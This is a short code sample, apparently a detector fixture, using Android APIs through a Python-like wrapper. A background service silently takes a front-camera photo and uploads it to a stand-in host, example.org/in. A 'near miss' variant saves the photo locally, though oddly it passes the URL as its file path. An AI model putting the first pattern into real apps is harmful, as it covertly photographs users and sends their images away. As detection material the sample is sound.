permissions("CAMERA", "INTERNET")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        camera = Camera.open(1)
        camera.setPreviewTexture(SurfaceTexture(10))
        camera.startPreview()
        camera.takePicture(None, None, Taken())
        return 1

class Taken(Camera_PictureCallback):
    def onPictureTaken(self, picture, camera):
        self.keep(picture)
    def keep(self, picture: "byte[]"):
        URL("https://example.org/in").openConnection().getOutputStream().write(picture)

# near miss: keeps the picture on the device
class Taken(Camera_PictureCallback):
    def onPictureTaken(self, picture, camera):
        self.keep(picture)
    def keep(self, picture: "byte[]"):
        FileOutputStream("https://example.org/in").write(picture)
